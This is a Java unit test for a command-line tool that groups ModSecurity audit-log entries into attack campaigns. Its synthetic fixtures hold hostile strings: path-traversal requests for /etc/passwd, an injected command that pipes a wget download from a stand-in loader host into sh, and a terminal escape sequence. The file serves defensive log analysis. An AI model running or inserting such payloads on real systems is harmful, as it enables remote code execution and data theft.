package org.modsecexplorer.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.modsecexplorer.store.TestStores;

/** The command campaigns, from a log to a list. */
class CampaignsCommandTest extends CommandCase {

    private final AttackLog log = new AttackLog();

    private void site() throws IOException {
        for (int i = 0; i < 120; i++) {
            log.entry("198.51.100." + i, 1 + i / 6, i % 6 * 200, "/own" + i + ".php", "curl/8." + i, 403, "930120 ARGS:f /own/" + i + "/../../etc/passwd");
        }
        for (int i = 0; i < 30; i++) {
            log.entry("203.0.113." + i, 9, 60 + i, "/cgi-bin/test.cgi?cmd=x", i == 4 ? "evil\\x1b[2J" : "Mozilla/5.0", i == 7 ? 200 : 403, "932100 ARGS:cmd ;wget http://loader.example.net/arm7.sh|sh");
        }
    }

    private void imported(String... more) throws IOException {
        Path file = Files.writeString(folder.resolve("audit.log"), log.text());
        String[] arguments = new String[more.length + 2];
        arguments[0] = "import";
        arguments[1] = file.toString();
        System.arraycopy(more, 0, arguments, 2, more.length);
        assertThat(run(arguments)).isZero();
    }

    @Test
    void aCampaignIsListedWithSpanSizeTargetAndSuccess() throws IOException {
        site();
        imported();
        assertThat(run("campaigns")).isZero();
        assertThat(out().lines()).hasSize(2);
        assertThat(out().lines().skip(1).findFirst().orElseThrow()).matches(
                " *1 +30 +30 +29 +1 +2026-11-09 01:00 +2026-11-09 01:29 +\\S*payload\\S* .*/cgi-bin/test.cgi");
    }

    @Test
    void oneCampaignTellsWhyAndListsItsRequests() throws IOException {
        site();
        imported();
        assertThat(run("campaigns", "--show", "1", "--limit", "5")).isZero();
        assertThat(out()).contains("clients: 30, requests: 30", "30 clients from 2026-11-09 01:00 to 2026-11-09 01:29: payload \";wget http://loader.example.net/arm7.sh|sh\"",
                "Others with it: 0", "203.0.113.0/24", "and 25 more").doesNotContain("\u001b");
    }

    @Test
    void theFilterFindsExactlyTheCampaign() throws IOException {
        site();
        imported();
        assertThat(run("campaigns", "--format", "json")).isZero();
        Matcher filter = Pattern.compile("\"filter\":\"([^\"]*)\"").matcher(out());
        assertThat(filter.find()).isTrue();
        assertThat(run("query", filter.group(1), "--columns", "client_ip", "--format", "csv")).isZero();
        assertThat(out().lines().skip(1)).hasSize(30).allMatch(line -> line.contains("203.0.113."));
    }

    @Test
    void aFilterChoosesAmongWholeCampaigns() throws IOException {
        site();
        imported();
        assertThat(run("campaigns", "ip:203.0.113.7")).isZero();
        assertThat(out()).containsPattern(" 1 +30 +30 +29 +1 ");
        assertThat(run("campaigns", "since:2026-11-10")).isZero();
        assertThat(out()).startsWith("No campaign");
        assertThat(run("campaigns", "--format", "json", "since:2026-11-10")).isZero();
        assertThat(out()).isEqualTo("{\"campaigns\":[]}\n");
    }

    @Test
    void asJson() throws IOException {
        site();
        imported();
        assertThat(run("campaigns", "--format", "json", "status:>0 or status:\"\"")).isZero();
        assertThat(out()).contains("\"number\":1,\"first\":\"2026-11-09T01:00:00Z\"", "\"succeeded\":1", "\"kind\":\"payload\",\"text\":\";wget", "\"filter\":\"(ip:203.0.113.");
        assertThat(run("campaigns", "--format", "json", "--show", "1", "--limit", "2")).isZero();
        assertThat(out()).containsPattern("\"entries\":\\[\\d+,\\d+]}\n$");
    }

    @Test
    void aNumberThatIsNotInTheListIsRefused() throws IOException {
        site();
        imported();
        assertThat(run("campaigns", "--show", "2")).isEqualTo(2);
        assertThat(err()).contains("--show must be between 1 and 1.");
        assertThat(run("campaigns", "--limit", "0")).isEqualTo(2);
    }

    @Test
    void aStoreOnAServerHasTheSameCampaigns() throws IOException {
        site();
        environment.put("MODSEC_EXPLORER_DB", TestStores.serverUrl());
        assertThat(run("db", "init")).isZero();
        imported();
        assertThat(run("campaigns")).isZero();
        assertThat(out()).contains("/cgi-bin/test.cgi").containsPattern(" 1 +30 +30 +29 +1 ");
    }
}
